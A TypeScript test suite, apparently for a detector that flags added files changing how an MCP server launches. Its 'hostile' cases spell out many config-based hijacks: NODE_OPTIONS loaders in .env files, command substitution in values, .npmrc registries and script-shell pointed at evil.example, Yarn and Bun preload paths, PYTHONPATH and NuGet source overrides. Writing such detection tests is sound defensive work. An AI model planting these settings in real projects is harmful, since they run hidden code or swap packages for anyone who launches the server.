import { type Case, type Files, mcp, playCases } from './cases.ts';

const server = '@fictional-mcp/notes@1.4.0';
const npx = `npx -y ${server}`;
const bunx = `bunx ${server}`;
const deno = `deno run -A npm:${server}`;
const jsr = 'deno run -A jsr:@fictional/server@1.0.0';
const dlx = `pnpm dlx ${server}`;
const yarn = `yarn dlx ${server}`;
const uvRun = 'uv run --with other-mcp==1.0.0 other-mcp';
const uvx = 'uvx other-mcp==1.0.0';
const dnx = 'dnx Fictional.Mcp@1.0.0 --yes';
const through = (wrapper: string): string => `${wrapper} ${npx}`;

function entry(line: string): Files {
  const [command = '', ...args] = line.split(' ');
  return mcp({ command, args });
}

/** A change that adds files around a server and thereby alters it. */
function hostile(name: string, line: string, head: Files, rules = 'altered-launch'): Case {
  return { name, base: entry(line), head, expected: `changed: ${rules}` };
}

/** A change that adds files around a server and leaves it unchanged. */
function honest(name: string, line: string, head: Files): Case {
  return { name: `${name} (honest)`, base: entry(line), head, expected: 'unchanged' };
}

const unlisted = 'altered-launch, unlisted';
/** In another registry, the name belongs to a different package. */
const elsewhere = 'altered-launch, grade-lost, unlisted';
const release = '.yarn/releases/yarn-4.9.2.cjs';
const yarnPath = `yarnPath: ${release}\n`;
const plugin = '.yarn/plugins/@yarnpkg/plugin-version.cjs';
const loader = 'NODE_OPTIONS=--require=./evil.js\n';

const variables: readonly Case[] = [
  hostile('.env of dotenv', through('dotenv --'), { '.env': loader }),
  hostile('.env.local of dotenv', through('dotenv -c --'), { '.env.local': loader }),
  hostile('.env of dotenv-cli', through('npx -y dotenv-cli --'), { '.env': loader }),
  hostile('.env of dotenvx', through('dotenvx run --'), { '.env': loader }),
  hostile('a command in the value of dotenvx', through('dotenvx run --'), {
    '.env': 'PORT="$(./evil)"\n',
  }),
  hostile('a file that dotenvx is given', through('dotenvx run -f=conf/x.env --'), {
    'conf/x.env': 'A=$(./evil)\n',
  }),
  hostile('.env.mcp of envmcp', through('npx -y envmcp'), { '.env.mcp': loader }),
  hostile('the schema of varlock', through('varlock run --'), {
    '.env.schema': 'A=exec(`./evil`)\n',
  }),
  hostile('a folder that varlock is given', through('varlock run --path conf --'), {
    'conf/.env.schema': 'A=exec("./evil")\n',
  }),
  hostile('--env of deno', `deno run --env -A npm:${server}`, {
    '.env': 'DENO_DIR=./d\n',
    'd/x.js': '',
  }),
  hostile(
    '--env-file of deno alone',
    `deno run --env-file -A npm:${server}`,
    {
      '.env': 'NPM_CONFIG_REGISTRY=https://evil.example/\n',
    },
    elsewhere,
  ),
  hostile(
    '--env-file of uv',
    'uv run --env-file=x.env --with other-mcp==1.0.0 other-mcp',
    {
      'x.env': 'PYTHONPATH=./evil\n',
      'evil/x.py': '',
    },
    unlisted,
  ),
  hostile('--env-file of op', through('op run --env-file=app.env --'), { 'app.env': loader }),
  hostile('--env-file of op in two words', through('op run --env-file app.env --'), {
    'app.env': loader,
  }),
  hostile('--env-file of infisical', through('infisical run --env-file=./a/b.env --'), {
    'a/b.env': loader,
  }),
  hostile('--env-file of doppler', through('doppler run --env-file app.env --'), {
    'app.env': loader,
  }),
  hostile('a fallback of doppler', through('doppler run --fallback ./secrets.enc --'), {
    'secrets.enc': 'x',
  }),
];

/** Different spellings of the same assignment. */
const spellings: readonly Case[] = [
  ['export and a tab', 'export\tNODE_OPTIONS=--require=./evil.js'],
  ['export and spaces', '  export   NODE_OPTIONS = --require=./evil.js'],
  ['a colon', 'NODE_OPTIONS: --require=./evil.js'],
  ['a byte order mark', '\uFEFFNODE_OPTIONS=--require=./evil.js'],
  ['a carriage return', 'A=1\rNODE_OPTIONS=--require=./evil.js\r'],
  ['a name in quotes', '"NODE_OPTIONS"=--require=./evil.js'],
  ['a value in quotes', 'NODE_OPTIONS="--require ./evil.js"'],
  ['a value over lines', 'NODE_OPTIONS="\n--require ./evil.js"'],
  ['a line within a value', 'A="\nNODE_OPTIONS=--require=./evil.js\n"'],
  ['a value that is expanded', 'X=--require\nNODE_OPTIONS="$X ./evil.js"'],
  ['a value with a default', 'NODE_OPTIONS=$' + '{X:---require=./evil.js}'],
  ['set', 'set NODE_OPTIONS=--require=./evil.js'],
  ['behind a harmless one', 'NODE_OPTIONS=--max-old-space-size=512\nNODE_OPTIONS=-r=./evil.js'],
  ['a path that is expanded', 'D=./bin\nPATH=$D:$PATH', { 'bin/npx': { executable: '#!' } }],
].map(([name = '', text, more = {}]) =>
  hostile(`${name} in a file of variables`, through('dotenv --'), {
    '.env': `${text}\n`,
    ...(more as Files),
  }),
);

const managers: readonly Case[] = [
  hostile(
    '.npmrc in the folder of env -C',
    through('env -C sub'),
    { 'sub/.npmrc': 'registry=https://evil.example/\n' },
    elsewhere,
  ),
  hostile('.npmrc behind timeout', through('timeout --kill-after 5 30'), {
    '.npmrc': 'git=./evil\n',
  }),
  honest('.npmrc, for what another machine runs', through('ssh host'), {
    '.npmrc': 'registry=https://evil.example/\n',
  }),
  hostile('git of npm', npx, { '.npmrc': 'git=./evil\n' }),
  hostile('node-gyp of npm', npx, { '.npmrc': 'node-gyp=./evil.js\n' }),
  hostile('cafile of the tree', npx, { '.npmrc': 'cafile=ca.pem\n', 'ca.pem': 'x' }, elsewhere),
  hostile('script-shell', npx, { '.npmrc': 'script-shell=./evil\n' }),
  hostile('node-options', npx, { '.npmrc': 'node-options=--require ./evil.js\n' }),
  hostile('globalconfig', npx, { '.npmrc': 'globalconfig=./other\n' }, elsewhere),
  hostile(
    'a key in quotes',
    npx,
    { '.npmrc': '"regis\\u0074ry"=https://evil.example/\n' },
    elsewhere,
  ),
  hostile('.npmrc in capitals', npx, { '.NPMRC': 'registry=https://evil.example/\n' }, elsewhere),
  hostile(
    'a plain http registry',
    npx,
    { '.npmrc': 'registry=http://registry.npmjs.org/\n' },
    elsewhere,
  ),
  hostile('.npmrc of deno', deno, { '.npmrc': 'registry=https://evil.example/\n' }, elsewhere),
  hostile(
    '.npmrc that is a link',
    npx,
    {
      'x/rc': 'registry=https://evil.example/\n',
      '.npmrc': { link: 'x/rc' },
    },
    elsewhere,
  ),
  hostile('a token helper', npx, { '.npmrc': '//registry.npmjs.org/:tokenHelper=./evil\n' }),
  hostile('dependencies of pnpm’s settings', dlx, {
    'pnpm-workspace.yaml': 'configDependencies:\n  evil: 1.0.0+sha512-x\n',
  }),
  hostile('pnpmfile of pnpm', dlx, { 'pnpm-workspace.yaml': 'pnpmfile: ./evil.cjs\n' }),
  hostile('node mirrors of pnpm', dlx, {
    'pnpm-workspace.yaml': 'nodeDownloadMirrors:\n  release: https://evil.example/\n',
  }),
  hostile('yarnPath', yarn, { '.yarnrc.yml': 'yarnPath: ./evil.cjs\n' }),
  hostile('a release of Yarn', yarn, { '.yarnrc.yml': yarnPath, [release]: 'evil()' }),
  hostile('a release of Yarn 1', yarn, {
    '.yarnrc': `yarn-path "${release}"\n`,
    [release]: 'evil()',
  }),
  hostile('a plugin of Yarn', yarn, {
    '.yarnrc.yml': `plugins:\n  - path: ${plugin}\n    spec: "@yarnpkg/plugin-version"\n`,
    [plugin]: 'evil()',
  }),
  ...(
    [
      ['an edit of a release of Yarn', { [release]: 'evil()' }, 'changed: altered-launch'],
      [
        'another release of Yarn, which was there',
        { '.yarnrc.yml': yarnPath.replace('4.9', '4.8') },
        'changed: altered-launch',
      ],
      ['a release of Yarn that stands', { 'README.md': '# a' }, 'unchanged'],
      ['a launch beside a release of Yarn', entry(`${yarn} --port 80`), 'changed'],
    ] as const
  ).map(
    ([name, head, expected]): Case => ({
      name,
      base: {
        ...entry(yarn),
        '.yarnrc.yml': yarnPath,
        [release]: 'yarn()',
        [release.replace('4.9', '4.8')]: 'yarn()',
      },
      head,
      expected,
    }),
  ),
  {
    name: 'a new launch beside a release of Yarn',
    base: { '.yarnrc.yml': yarnPath, [release]: 'yarn()' },
    head: entry(yarn),
    expected: 'added',
  },
  hostile('plugins of Yarn', yarn, { '.yarnrc.yml': 'plugins:\n  - ./evil.cjs\n' }),
  hostile('checksums of Yarn', yarn, { '.yarnrc.yml': 'checksumBehavior: ignore\n' }, elsewhere),
  hostile('yarn-path behind a tab', yarn, { '.yarnrc': 'yarn-path\t"./evil.js"\n' }),
  hostile('files of variables of Yarn', yarn, {
    '.yarnrc.yml': 'injectEnvironmentFiles: ["conf/x.env?"]\n',
    'conf/x.env': loader,
  }),
  hostile('.env.yarn', yarn, { '.env.yarn': loader }),
  hostile('preload of Bun', bunx, { 'bunfig.toml': 'preload = ["./evil.ts"]\n', 'evil.ts': '' }),
  hostile(
    'uv.toml: a mirror of Python',
    uvRun,
    {
      'uv.toml': 'python-install-mirror = "https://evil.example/"\n',
    },
    unlisted,
  ),
  hostile(
    'uv.toml: a cache of the tree',
    uvRun,
    {
      'uv.toml': 'cache-dir = "./cache"\n',
      'cache/x/evil.py': '',
    },
    unlisted,
  ),
  hostile(
    'pyproject.toml: a list of downloads',
    uvRun,
    {
      'pyproject.toml': '[tool.uv]\npython-downloads-json-url = "./evil.json"\n',
    },
    unlisted,
  ),
  hostile(
    'uv.toml: an override',
    uvRun,
    {
      'uv.toml': 'override-dependencies = ["other-mcp==0.1"]\n',
    },
    unlisted,
  ),
  hostile(
    '.python-version with a path',
    uvRun,
    {
      '.python-version': './bin/python\n',
      'bin/python': { executable: '#!/bin/sh\n' },
    },
    unlisted,
  ),
];

const tools: readonly Case[] = [
  ...[
    'doppler run --api-host https://evil.example --',
    'doppler run --api-host=evil.example --',
    'infisical run --domain https://evil.example/api --',
    'infisical run --domain=https://infisical.com.evil.example --',
    'env DOPPLER_API_HOST=https://evil.example doppler run --',
    'env OP_CONNECT_HOST=https://evil.example op run --',
  ].map(
    (wrapper): Case => ({
      name: wrapper,
      base: entry(npx),
      head: entry(through(wrapper)),
      expected: `changed: ${elsewhere}`,
    }),
  ),
  ...[
    'infisical run --domain https://eu.infisical.com/api --env prod --',
    'doppler run --api-host https://api.doppler.com -p app --',
    'env DOPPLER_TOKEN=x doppler run --',
  ].map(
    (wrapper): Case => ({
      name: `${wrapper} (honest)`,
      base: entry(npx),
      head: entry(through(wrapper)),
      expected: 'changed',
    }),
  ),
  // Options with the same effect as a variable.
  ...(
    [
      [`deno run -A --cert x.pem npm:${server}`, elsewhere],
      [`deno run -A --cert /etc/ssl/x.pem npm:${server}`, null],
      ['pipx run --python ./bin/python other-mcp==1.0.0', unlisted],
      ['pipx run --python 3.12 --backend uv other-mcp==1.0.0', 'unlisted'],
    ] as const
  ).map(([line, rules]): Case => {
    const [program = ''] = line.split(' ');
    const files = { 'x.pem': 'x', 'bin/python': { executable: '#!/bin/sh\n' } };
    const proxied = (words: string): Files => {
      const [command = '', ...args] = words.split(' ');
      return mcp({ command, args, env: { HTTPS_PROXY: 'http://proxy.example:8080' } });
    };
    const plain = program === 'deno' ? deno : 'pipx run other-mcp==1.0.0';
    return {
      name: line,
      base: { ...files, ...proxied(plain) },
      head: proxied(line),
      expected: rules === null ? 'changed' : `changed: ${rules}`,
    };
  }),
  hostile('deno: a map', deno, {
    'deno.json': `{"imports":{"npm:${server}":"./evil.js"}}`,
    'evil.js': '',
  }),
  ...[
    `{"version":"5","specifiers":{"npm:${server}":"1.3.0"}}`,
    `{"version":"3","packages":{"specifiers":{"npm:${server}":"npm:@fictional-mcp/notes@1.3.0"}}}`,
    `{"version":"5","npm":{"@fictional-mcp/notes@1.4.0":{"dependencies":["zod@npm:evil@1.0.0"]}}}`,
  ].map((text) => hostile(`deno.lock: ${text}`, deno, { 'deno.lock': text }, 'altered-launch')),
  hostile(
    'deno.lock of jsr',
    jsr,
    { 'deno.lock': '{"specifiers":{"jsr:@fictional/server@1.0.0":"0.9.0"}}' },
    unlisted,
  ),
  ...[
    `{"version":"5","specifiers":{"npm:${server}":"1.4.0"},"npm":{"x@1.0.0":{"tarball":"https://evil.example/x.tgz"}}}`,
    '{',
  ].map((text) => hostile(`deno.lock: ${text}`, deno, { 'deno.lock': text }, elsewhere)),
  ...[
    { dependencies: { '@fictional-mcp/notes': 'file:./d' } },
    { devDependencies: { '@fictional-mcp/notes': 'npm:evil@1.4.0' } },
    { overrides: { x: 'npm:is-odd@3.0.1' } },
    { overrides: { a: { b: 'https://evil.example/b.tgz' } } },
    { overrides: { '@fictional-mcp/notes': '1.3.0' } },
    { overrides: { '@fictional-mcp/notes': { '.': '1.3.0' } } },
  ].map((content) =>
    hostile(
      `deno: ${JSON.stringify(content)}`,
      deno,
      { 'package.json': { json: content } },
      'altered-launch',
    ),
  ),
  hostile('deno: another lockfile', deno, { 'deno.json': '{"lock":{"path":"x.lock"}}' }),
  hostile('variables of Node for deno', `deno run -A --env-file npm:${server}`, { '.env': loader }),
  hostile('hooks of pnpm', dlx, { '.pnpmfile.cjs': '' }),
  hostile('deno: links', deno, { 'deno.jsonc': '{"links":["./evil"],}' }),
  hostile('deno: a folder that others fill', deno, { 'deno.json': '{"nodeModulesDir":"manual"}' }),
  hostile('deno: vendored code', jsr, { 'deno.json': '{"vendor":true}' }, unlisted),
  hostile(
    'deno: a member of that name',
    jsr,
    {
      'deno.json': '{"workspace":["./packages/*"]}',
      'packages/a/deno.json': '{"name":"@fictional/server","version":"1.0.0"}',
    },
    unlisted,
  ),
  hostile(
    'NuGet: another source',
    dnx,
    {
      'NuGet.Config':
        '<configuration><packageSources><add key="x" value="https://evil.example/index.json"/></packageSources></configuration>',
    },
    unlisted,
  ),
  hostile(
    'NuGet: packages of the tree',
    dnx,
    {
      'nuget.config':
        '<configuration><config><add key="globalPackagesFolder" value="p" /></config></configuration>',
      'p/fictional.mcp/1.0.0/x.dll': '',
    },
    unlisted,
  ),
  hostile(
    'NuGet: a document type',
    dnx,
    { 'nuget.config': '<!DOCTYPE x><configuration/>' },
    unlisted,
  ),
  hostile(
    'another .NET',
    dnx,
    { 'global.json': '{"sdk":{"paths":["./dotnet"]}}', 'dotnet/dotnet': { executable: '#!' } },
    unlisted,
  ),
  hostile(
    'another version in a manifest of tools',
    dnx,
    {
      '.config/dotnet-tools.json':
        '{"version":1,"tools":{"Fictional.Mcp":{"version":"0.1.0","commands":["x"]}}}',
    },
    unlisted,
  ),
];

const usual: readonly Case[] = [
  honest('a token and harmless settings', npx, {
    '.npmrc': `//registry.npmjs.org/:_authToken=\${NPM_TOKEN}\nsave-exact=true\nengine-strict=true\nregistry=https://registry.npmjs.org/\nfund=false\naudit=false\nlegacy-peer-deps=true\n`,
  }),
  honest('settings of pnpm in .npmrc', dlx, {
    '.npmrc':
      'shamefully-hoist=true\nauto-install-peers=true\nnode-linker=hoisted\npublic-hoist-pattern[]=*types*\nstrict-peer-dependencies=false\n',
  }),
  honest('a company’s certificate and proxy', npx, {
    '.npmrc': 'cafile=/etc/ssl/certs/company.pem\nproxy=http://proxy.company.example:8080\n',
  }),
  honest('a workspace of pnpm', dlx, {
    'pnpm-workspace.yaml':
      'packages:\n  - packages/*\ncatalog:\n  zod: ^3\nonlyBuiltDependencies:\n  - esbuild\nminimumReleaseAge: 1440\nnodeLinker: hoisted\n',
  }),
  honest('a manager’s version', dlx, {
    'package.json':
      '{"packageManager":"pnpm@9.1.0+sha512.67f5879916a9293e5cf059c23853d571beaf4f753c707f40cb22bed5fb1578c6aad3b6c4107ccb3ba0b35be003eb621a16471ac836c87beb53f9d54bb4612724","devEngines":{"packageManager":{"name":"pnpm","version":"^9"}}}',
  }),
  honest('Yarn’s own release and plugins', yarn, {
    '.yarnrc.yml':
      'nodeLinker: node-modules\nenableTelemetry: false\nyarnPath: .yarn/releases/yarn-4.1.0.cjs\nplugins:\n  - path: .yarn/plugins/@yarnpkg/plugin-version.cjs\n    spec: "@yarnpkg/plugin-version"\n',
    'package.json': '{"packageManager":"yarn@4.1.0"}',
  }),
  honest('settings of tests of Bun', bunx, {
    'bunfig.toml': '[test]\npreload = ["./setup.ts"]\n[install]\nexact = true\n[run]\nbun = true\n',
  }),
  honest('API keys', through('dotenv --'), {
    '.env':
      '# keys\nexport OPENAI_API_KEY="sk-x"\nPORT=3000\nNODE_ENV=production\nDATABASE_URL=postgres://db/x\nLOG_LEVEL=debug\n',
  }),
  honest('a price in a file of variables', through('dotenvx run --'), { '.env': 'PRICE="$5"\n' }),
  honest('options of doppler', through('doppler run -p app -c dev --'), {
    'doppler.yaml': 'setup:\n  project: app\n  config: dev\n',
    'dev/x.md': '',
  }),
  honest('a project of uv', uvRun, {
    'uv.toml': 'index-strategy = "first-index"\n',
    '.python-version': '3.12\n',
  }),
  honest('settings of uv that uvx does not read', uvx, {
    'uv.toml': 'index-url = "https://evil.example/simple"\n',
    '.python-version': './bin/python\n',
    'bin/python': { executable: '#!/bin/sh\n' },
  }),
  honest('a lockfile of deno', deno, {
    'deno.lock': `{"version":"5","specifiers":{"npm:${server}":"1.4.0_zod@3.25.0","npm:zod@3":"3.25.0","jsr:@std/path@1":"1.0.0"},"npm":{"@fictional-mcp/notes@1.4.0_zod@3.25.0":{"integrity":"sha512-x","dependencies":["zod","string-width-cjs@npm:string-width@4.2.3"]}},"workspace":{"dependencies":["npm:zod@3"]}}`,
  }),
  honest('a package.json for deno', deno, {
    'package.json': {
      json: {
        dependencies: {
          '//': 'some words',
          a: 'npm:b@1',
          'p-x': 'file:./p',
        },
        overrides: { zod: '3.25.0', '@fictional-mcp/notes': { zod: '$zod' }, b: { '.': '1.0.0' } },
      },
    },
  }),
  honest('an override of npm', npx, {
    'package.json': { json: { overrides: { zod: 'npm:other@1.0.0', x: { y: '2' } } } },
  }),
  honest('a project of deno', deno, {
    'deno.json':
      '{"tasks":{"x":"deno run x.ts"},"imports":{"@std/path":"jsr:@std/path@1","@/":"./src/"},"nodeModulesDir":"auto","lock":true,"fmt":{"lineWidth":100}}',
  }),
  honest('the default source of NuGet', dnx, {
    'NuGet.config':
      '<?xml version="1.0" encoding="utf-8"?>\n<configuration>\n  <!-- one source -->\n  <packageSources>\n    <clear />\n    <add key="nuget.org" value="https://api.nuget.org/v3/index.json" protocolVersion="3" />\n  </packageSources>\n</configuration>\n',
  }),
  honest('a version of .NET', dnx, {
    'global.json': '{"sdk":{"version":"10.0.100","rollForward":"latestFeature"}}',
    '.config/dotnet-tools.json':
      '{"version":1,"isRoot":true,"tools":{"dotnet-ef":{"version":"9.0.0","commands":["dotnet-ef"]}}}',
  }),
  honest('an encrypted file that no option names', through('doppler run --'), { 'a.enc': 'x' }),
];

const evilRegistry = { 'sub/.npmrc': 'registry=https://evil.example/\n' };
const index = (folder: string): Files => ({
  [`${folder}/uv.toml`]: 'index-url = "https://evil.example/simple"\n',
});

/** The folder in which a launch starts, as each program's options spell it. */
const places: readonly Case[] = [
  ...['-C sub', '--dir=sub'].map((words) =>
    hostile(`pnpm ${words}`, `pnpm ${words} dlx ${server}`, evilRegistry, elsewhere),
  ),
  ...[`bun --cwd=sub x ${server}`, `bunx --cwd=sub ${server}`].map((line) =>
    hostile(line, line, { 'sub/bunfig.toml': 'preload = ["./evil.ts"]\n', 'sub/evil.ts': '' }),
  ),
  hostile('yarn --cwd', `yarn --cwd sub dlx ${server}`, evilRegistry, elsewhere),
  hostile(
    'uvx --directory',
    'uvx --directory sub --env-file x.env other-mcp==1.0.0',
    { 'sub/x.env': 'PYTHONPATH=./evil\n', 'sub/evil/x.py': '' },
    unlisted,
  ),
  hostile(
    'uv --directory tool run',
    'uv --directory sub tool run --env-file x.env other-mcp==1.0.0',
    { 'sub/x.env': 'PYTHONSTARTUP=x\n' },
    unlisted,
  ),
  ...[
    '--directory a --project sub',
    '--project sub --directory a',
    '--project ../sub --directory a',
    '--directory sub --project a',
    '--project=sub',
    '--directory /workspaces/x/sub',
    '--directory ${workspaceFolder}/sub',
  ].map((words) =>
    hostile(
      `uv run ${words}`,
      `uv run ${words} --with other-mcp==1.0.0 other-mcp`,
      { 'a/x': '', ...index('sub'), ...index('a/sub') },
      unlisted,
    ),
  ),
  honest('uv run in another folder', 'uv run --directory a --with other-mcp==1.0.0 other-mcp', {
    'a/x': '',
    ...index('sub'),
  }),
  ...[
    '/workspaces/x/sub',
    '/workspace/sub',
    '/home/runner/work/a/b/sub',
    '/github/workspace/sub',
    '${workspaceFolder}/sub',
  ].map(
    (cwd): Case => ({
      name: `a folder of the checkout: ${cwd}`,
      base: mcp({ command: 'npx', args: ['-y', server], cwd }),
      head: evilRegistry,
      expected: `changed: ${elsewhere}`,
    }),
  ),
  ...['/home/me/sub', '~/sub', '/tmp/sub', '${userHome}/sub'].map(
    (cwd): Case => ({
      name: `a folder of the user: ${cwd} (honest)`,
      base: mcp({ command: 'npx', args: ['-y', server], cwd }),
      head: evilRegistry,
      expected: 'unchanged',
    }),
  ),
  {
    name: 'a shell that moves to an absolute path of the checkout',
    base: mcp({ command: 'bash', args: ['-c', `cd /workspaces/x/sub && ${npx}`] }),
    head: evilRegistry,
    expected: `changed: ${elsewhere}`,
  },
  {
    name: 'a file of variables above the folder of the client',
    base: {
      'app/.mcp.json': {
        json: {
          mcpServers: {
            notes: {
              command: 'npx',
              args: ['-y', 'dotenv-cli', '-e', 'x.env', '--', 'npx', '-y', server],
            },
          },
        },
      },
    },
    head: { 'x.env': loader },
    expected: 'changed and unchanged: altered-launch',
  },
  {
    name: 'code above the folder of the client',
    base: {
      'app/.mcp.json': {
        json: {
          mcpServers: {
            notes: { command: 'npx', args: ['-y', server], env: { PLUGIN: './p/x.js' } },
          },
        },
      },
    },
    head: { 'p/x.js': '' },
    expected: 'changed: altered-launch',
  },
  {
    name: 'files beside the folder of the client (honest)',
    base: {
      'app/.mcp.json': {
        json: {
          mcpServers: {
            notes: { command: 'npx', args: ['-y', server], env: { PLUGIN: './p/x.js' } },
          },
        },
      },
    },
    head: { 'other/p/x.js': '', 'other/.npmrc': 'registry=https://evil.example/\n' },
    expected: 'unchanged',
  },
];

playCases([...places, ...variables, ...spellings, ...managers, ...tools, ...usual]);
